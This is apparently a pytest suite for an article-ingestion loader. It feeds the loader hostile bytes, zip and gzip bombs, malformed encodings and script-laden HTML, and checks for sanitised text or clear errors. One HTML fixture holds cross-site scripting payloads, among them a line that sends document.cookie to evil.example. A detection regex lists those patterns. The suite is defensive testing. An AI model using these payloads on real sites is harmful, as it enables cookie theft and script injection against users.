"""Hostile input to the loaders: each case gives a clear ArticleLoadError or a sane Article.

"Sane" means: non-empty text with no NUL or other control characters except newline and tab,
``\\n`` newlines only, NFC, no lone surrogates, within the size limits, and, for HTML, none of
the page's scripts, styles, event handlers or ``javascript:`` targets. Property tests
(hypothesis) throw random bytes and random text at ``from_bytes`` and ``from_text``.
"""

from __future__ import annotations

import gzip
import io
import random
import re
import unicodedata
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from components.ingest import limits, metadata
from components.ingest import loaders as articles
from components.ingest.loaders import Article, ArticleLoadError


def assert_sane(article: Article) -> None:
    text = article.text
    assert isinstance(article, Article)
    assert text.strip() and text == text.strip()
    assert "\r" not in text and "\x00" not in text
    assert not any(unicodedata.category(c) == "Cc" and c not in "\n\t" for c in text)
    assert not re.search(r"[\ud800-\udfff]", text)
    assert unicodedata.is_normalized("NFC", text)
    assert len(text) <= limits.MAX_ARTICLE_CHARS
    assert article.id == articles.content_hash(text)
    assert article.url == "" or re.match(r"^https?://", article.url)
    for meta in (article.title, article.outlet, article.author):
        assert len(meta) <= metadata.MAX_META_CHARS and "\n" not in meta
    assert article.published is None or re.fullmatch(r"\d{4}-\d{2}-\d{2}", article.published)


def assert_clear(error: ArticleLoadError) -> None:
    message = str(error)
    assert message and "\n" not in message and len(message) < 300
    assert "Traceback" not in message and "Error:" not in message


def _zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("index.html", b"<html><body>" + b"0" * 20_000_000)
    return buffer.getvalue()


RNG = random.Random(1234)

# (id, bytes, expected outcome: a regex the error must match, or None for a sane Article)
HOSTILE_BYTES: list[tuple[str, bytes, str | None]] = [
    ("empty", b"", r"is empty"),
    ("whitespace-only", b" \t\r\n \n", r"only whitespace"),
    ("unicode-whitespace-only", " \u3000\u2028\n".encode(), r"only whitespace"),
    ("nbsp-only", "\u00a0\u2003\n".encode(), r"only whitespace"),
    ("one-huge-paragraph", ("word " * 190_000).encode(), None),
    ("one-huge-line-no-spaces", b"x" * 900_000, None),
    ("ten-mb", b"a" * 10_000_000, r"is 10 MB; the limit for one article is 5 MB"),
    ("random-binary", RNG.randbytes(4096), r"binary file|text encoding"),
    ("3000-random-high-bytes", bytes(RNG.randrange(0x80, 0x100) for _ in range(3000)), r"binary file \(its bytes"),
    ("gzip-bomb-as-html", gzip.compress(b"<html><body>" + b"0" * 20_000_000), r"binary file \(gzip"),
    ("zip-bomb-as-html", _zip_bomb(), r"binary file \(ZIP"),
    ("pdf-named-txt", b"%PDF-1.4\n" + RNG.randbytes(512), r"binary file \(PDF\)"),
    ("png", b"\x89PNG\r\n\x1a\n" + RNG.randbytes(64), r"binary file \(PNG image\)"),
    ("nul-in-text", b"An article\x00 with a NUL byte.", r"NUL bytes"),
    ("utf16-odd-length", "Some UTF-16 text".encode("utf-16-le") + b"\x00", None),
    ("control-soup", bytes(RNG.choice(range(1, 32)) for _ in range(2000)), r"control characters"),
    ("few-ansi-escapes", b"\x1b[31mRed alert\x1b[0m in the headline.", None),
    ("mixed-encodings", "Kyiv “UTF-8” ".encode() + b"and \x93cp1252\x94 caf\xe9" + "…".encode(), None),
    ("undefined-1252-bytes", b"Text with \x81\x8d\x8f\x90\x9d undefined bytes and more words.", None),
    ("unbalanced-straight-quotes", b'He said "this never closes. And "this one" does. "Again', None),
    ("curly-quotes-unbalanced", "She said “it began ‘here and never ended.".encode(), None),
    ("5000-straight-quotes", b'"' * 5_000, None),
    ("5000-curly-quotes", "“”".encode() * 2_500, None),
    ("5000-quotes-with-words", ('"' + "word " * 3 + '" ') .encode() * 5_000, None),
    ("emoji", "Crowds cheered 🎉🇺🇦👩🏽‍⚕️ as the ferry 🚢 returned.".encode(), None),
    ("rtl-hebrew-arabic", "השר אמר: ״נבנה מחדש״. قال الوزير: «سنعيد البناء».".encode(), None),
    ("bidi-overrides", "Name: \u202eevil\u202c and \u2066isolate\u2069 text.".encode(), None),
    ("zero-width", "Zero\u200bwidth\u200djoin\ufeffinside.".encode(), None),
    ("combining-marks", ("e" + "\u0301" * 500 + " text").encode(), None),
    ("lone-surrogate-bytes", b"Bad \xed\xa0\x80 surrogate in UTF-8.", None),
    ("overlong-utf8", b"Overlong \xc0\xaf slash.", None),
    ("only-a-header", b"Title: x\nDate: 2026-01-01\n\n", r"no article text"),
    ("huge-title-header", b"Title: " + b"T" * 100_000 + b"\n\nBody.", None),
    ("header-xss-title", b"Title: <script>alert(1)</script>\nURL: javascript:alert(1)\n\nBody.", None),
    ("many-lines", b"line\n" * 40_000, None),
    ("too-many-tokens", b'"' * 300_000, r"about 300,000 words and punctuation marks; the limit .* is 200,000"),
    ("too-many-tokens-in-lines", b"line\n" * 200_000, r"about 399,999 words and punctuation marks"),
    ("crlf-soup", b"\r\r\n\n\r" * 1000 + b"text", None),
    ("form-feeds", b"Page one.\x0cPage two.\x0bTab\x85NEL", None),
    ("magic-words-as-text", b"The new WEBP format and MZ Hotel: PAR1 results, GIF89a and OggS files.", None),
    ("mz-word-first", b"MZ Hotel reopened on Monday after repairs.", None),
    ("exe-header", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00", r"binary file \(Windows program\)"),
    ("webp-image", b"RIFF\x10\x00\x00\x00WEBPVP8 ", r"binary file \(WebP image\)"),
    ("mp4-video", b"\x00\x00\x00\x18ftypmp42\x00\x00", r"binary file \(MP4"),
]

SCRIPT_PAGE = b"""<html><head><title>Council vote <script>alert('t')</script></title>
<script>window.location='http://evil.example/?c='+document.cookie</script>
<style>@import 'javascript:alert(2)';</style>
<meta http-equiv="refresh" content="0;url=javascript:alert(3)"></head>
<body onload="alert(4)"><div onmouseover="alert(5)">
<p>The council of Brennick voted 7 to 2 on Monday to close the old quarry, the clerk said.</p>
<p>Residents had complained about dust for years, according to a petition with 900 names.</p>
<a href="javascript:alert(6)">Click</a> <a href="jav&#x09;ascript:alert(7)">here</a>
<img src="x" onerror="alert(8)"><svg onload="alert(9)"><script>alert(10)</script></svg>
<iframe src="javascript:alert(11)"></iframe><object data="javascript:alert(12)"></object>
<form action="javascript:alert(13)"><button formaction="javascript:alert(14)">go</button></form>
<p>Work to fill the pit will start in May, the clerk added.</p>
<script src="https://evil.example/x.js"></script><template><script>alert(15)</script></template>
</div></body></html>"""

HTML_PAGES: list[tuple[str, bytes]] = [
    ("script-heavy-page", SCRIPT_PAGE),
    ("deep-nesting", b"<html><body>" + b"<div>" * 20_000 + b"<p>Deep text here.</p>" + b"</div>" * 20_000),
    ("unclosed-tags", b"<html><body><p>Unclosed <b>bold <i>italic <p>para " * 200),
    ("entity-soup", b"<html><body><p>" + b"&amp;&lt;&#0;&#xD800;&#x110000;&bogus;" * 500 + b"</p></body></html>"),
    ("many-attributes", b"<html><body><p " + b" ".join(b"a%d='x'" % i for i in range(5000)) + b">Text.</p>"),
    ("comment-bomb", b"<html><body><!--" + b"-" * 100_000 + b"<p>After comment.</p></body></html>"),
    ("cdata-and-pi", b"<html><body><![CDATA[alert(1)]]><?php echo 1; ?><p>Visible words in a paragraph.</p>"),
]

EXECUTABLE = re.compile(r"alert\(|document\.cookie|javascript:|onerror|onload|<script|evil\.example", re.I)


@pytest.mark.parametrize(("data", "expected"), [(d, e) for _, d, e in HOSTILE_BYTES],
                         ids=[i for i, _, _ in HOSTILE_BYTES])
def test_hostile_bytes(data: bytes, expected: str | None) -> None:
    if expected is None:
        assert_sane(articles.from_bytes(data, filename="hostile.txt"))
    else:
        with pytest.raises(ArticleLoadError, match=expected) as caught:
            articles.from_bytes(data, filename="hostile.txt")
        assert_clear(caught.value)


@pytest.mark.parametrize("data", [d for _, d in HTML_PAGES], ids=[i for i, _ in HTML_PAGES])
def test_hostile_html(data: bytes) -> None:
    try:
        article = articles.from_bytes(data, filename="page.html")
    except ArticleLoadError as error:
        assert_clear(error)
    else:
        assert_sane(article)
        assert not EXECUTABLE.search(article.text), article.text[:200]


def _paragraph_page(n: int, line: str) -> bytes:
    return ("<html><body>" + "".join(f"<p>{line} {i:06d}.</p>" for i in range(n)) + "</body></html>").encode()


# 120,000 <p> in 4.9 MB (4.99 MB in the report) spent about ten minutes in trafilatura
# before the character limit refused it.
BIG_PAGE = _paragraph_page(120_000, "The council met again on a")
assert 4_900_000 < len(BIG_PAGE) < limits.MAX_ARTICLE_BYTES


@pytest.mark.parametrize(
    ("page", "message"),
    [
        pytest.param(BIG_PAGE, r"is a web page of 120,002 elements; the most we read is 30,000",
                     id="120000-paragraphs"),
        pytest.param(b"<html><body><p>" + b"word " * 420_000 + b"</p></body></html>",
                     r"web page with 2,100,000 characters of text; an article may have at most 1,000,000",
                     id="one-paragraph-of-2.1-million-characters"),
    ],
)
def test_oversized_html_refused_before_extraction(page: bytes, message: str, monkeypatch: pytest.MonkeyPatch) -> None:
    import trafilatura

    def no_extraction(*args: object, **kwargs: object) -> None:
        raise AssertionError("extraction ran")

    monkeypatch.setattr(trafilatura, "bare_extraction", no_extraction)
    with pytest.raises(ArticleLoadError, match=message) as caught:
        articles.from_bytes(page, filename="big.html")
    assert_clear(caught.value)


def test_html_size_caps_are_exact(monkeypatch: pytest.MonkeyPatch) -> None:
    """At the element cap a page is extracted; one element more and it is refused. Scripts,
    styles and comments are no text: a page of a big script and a short paragraph reads."""
    monkeypatch.setattr(limits, "MAX_HTML_ELEMENTS", 52)  # html, body and 50 paragraphs
    article = articles.from_bytes(_paragraph_page(50, "Paragraph"), filename="ok.html")
    assert article.text.count("Paragraph") == 50
    with pytest.raises(ArticleLoadError, match=r"of 53 elements; the most we read is 52"):
        articles.from_bytes(_paragraph_page(51, "Paragraph"), filename="over.html")
    monkeypatch.setattr(limits, "MAX_ARTICLE_CHARS", 100)
    page = (b"<html><body><script>" + b"x" * 5_000 + b"</script><!--" + b"c" * 500
            + b"--><p>Short text.</p></body></html>")
    assert articles.from_bytes(page, filename="script.html").text == "Short text."


def test_script_page_keeps_only_readable_text() -> None:
    article = articles.from_bytes(SCRIPT_PAGE, filename="quarry.html")
    assert "voted 7 to 2" in article.text and "Work to fill the pit" in article.text
    assert not EXECUTABLE.search(article.text)
    assert article.url == ""


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param('She said "no.', 'She said "no.', id="unbalanced"),
        pytest.param("“Nested ‘quotes’ inside”", "“Nested ‘quotes’ inside”", id="curly-nested"),
        pytest.param("«Guillemets» and „low-high“", "«Guillemets» and „low-high“", id="european-quotes"),
        pytest.param("שלום 👋🏽 مرحبا", "שלום 👋🏽 مرحبا", id="emoji-rtl"),
        pytest.param("a\r\nb\rc", "a\nb\nc", id="newlines"),
        pytest.param("Café\u0301", "Café\u0301", id="nfc-keeps-composed"),
        pytest.param("x\ud800y", "x\ufffdy", id="lone-surrogate-replaced"),
        pytest.param("bell\x07 and nul\x00 removed", "bell and nul removed", id="stray-controls-removed"),
    ],
)
def test_pasted_text_kept_faithfully(text: str, expected: str) -> None:
    article = articles.from_text(text)
    assert article.text == unicodedata.normalize("NFC", expected)
    assert_sane(article)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        pytest.param("", r"is empty", id="empty"),
        pytest.param("\n \t\u3000\u00a0", r"only whitespace", id="unicode-whitespace"),
        pytest.param("\x01\x02\x03" * 100, r"control characters", id="controls"),
        pytest.param("x" * 1_000_001, r"1,000,001 characters; the limit for one article is 1,000,000", id="too-long"),
        pytest.param("<script>alert(1)</script>", r"no readable article text", id="only-a-script"),
    ],
)
def test_pasted_text_refused(text: str, message: str) -> None:
    with pytest.raises(ArticleLoadError, match=message) as caught:
        articles.from_text(text)
    assert_clear(caught.value)


def test_huge_files_refused_before_reading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ten = tmp_path / "ten.txt"
    ten.write_bytes(b"a" * 10_000_000)
    fifty = tmp_path / "fifty.html"
    with fifty.open("wb") as handle:  # sparse: 50 MB on paper, nothing on disk
        handle.truncate(50_000_000)

    def no_reading(self: Path, *args: object, **kwargs: object) -> None:
        raise AssertionError(f"{self} was opened")

    monkeypatch.setattr(Path, "open", no_reading)  # refused on its size alone: never opened
    with pytest.raises(ArticleLoadError, match=r"^ten\.txt is 10 MB; the limit for one article is 5 MB\.$"):
        articles.from_path(ten)
    with pytest.raises(ArticleLoadError, match=r"^fifty\.html is 50 MB; the limit"):
        articles.from_path(fifty)


def test_hostile_table_size() -> None:
    assert len(HOSTILE_BYTES) + len(HTML_PAGES) >= 40


# --- property tests --------------------------------------------------------------------------

PROPERTY = settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _load_or_refuse(data: bytes) -> None:
    try:
        article = articles.from_bytes(data, filename="random.bin")
    except ArticleLoadError as error:
        assert_clear(error)
    else:
        assert_sane(article)


@PROPERTY
@given(st.binary(max_size=2048))
def test_random_bytes(data: bytes) -> None:
    _load_or_refuse(data)


@PROPERTY
@given(st.text(max_size=800))
def test_random_text_as_utf8(text: str) -> None:
    _load_or_refuse(text.encode("utf-8"))


@PROPERTY
@given(st.text(max_size=800), st.sampled_from(["utf-16", "utf-16-le", "utf-16-be", "cp1252", "latin-1"]))
def test_random_text_in_other_encodings(text: str, encoding: str) -> None:
    data = text.encode(encoding, errors="ignore")
    _load_or_refuse(data)


@PROPERTY
@given(st.text(max_size=800))
def test_random_pasted_text(text: str) -> None:
    try:
        article = articles.from_text(text)
    except ArticleLoadError as error:
        assert_clear(error)
    else:
        assert_sane(article)


HEADERS = st.lists(
    st.tuples(st.sampled_from(["Title", "Outlet", "Date", "URL", "Author", "date", "Published"]),
              st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=40)),
    max_size=5,
)


@settings(max_examples=300, deadline=None)
@given(HEADERS, st.text(max_size=300))
def test_random_headers(header: list[tuple[str, str]], body: str) -> None:
    raw = "".join(f"{key}: {value}\n" for key, value in header) + "\n" + body
    _load_or_refuse(raw.encode("utf-8"))


# No <title>/<textarea>: their content is text by the HTML rules, so a literal "javascript:" there is text.
TAGS = st.sampled_from(["p", "div", "script", "style", "a", "b", "html", "body", "svg", "img", "!--", "noscript"])
HTML_PIECES = st.lists(
    st.one_of(
        TAGS.map(lambda t: f"<{t}>"),
        TAGS.map(lambda t: f"</{t}>"),
        st.sampled_from(['<a href="javascript:alert(1)">', '<img onerror="alert(1)">', "&amp;", "&#0;"]),
        st.text(max_size=30),
    ),
    max_size=40,
)


@settings(max_examples=150, deadline=None)
@given(HTML_PIECES)
def test_random_html(pieces: list[str]) -> None:
    try:
        article = articles.from_bytes(("<html><body>" + "".join(pieces)).encode(), filename="r.html")
    except ArticleLoadError as error:
        assert_clear(error)
    else:
        assert_sane(article)
        assert "javascript:" not in article.text and "onerror" not in article.text
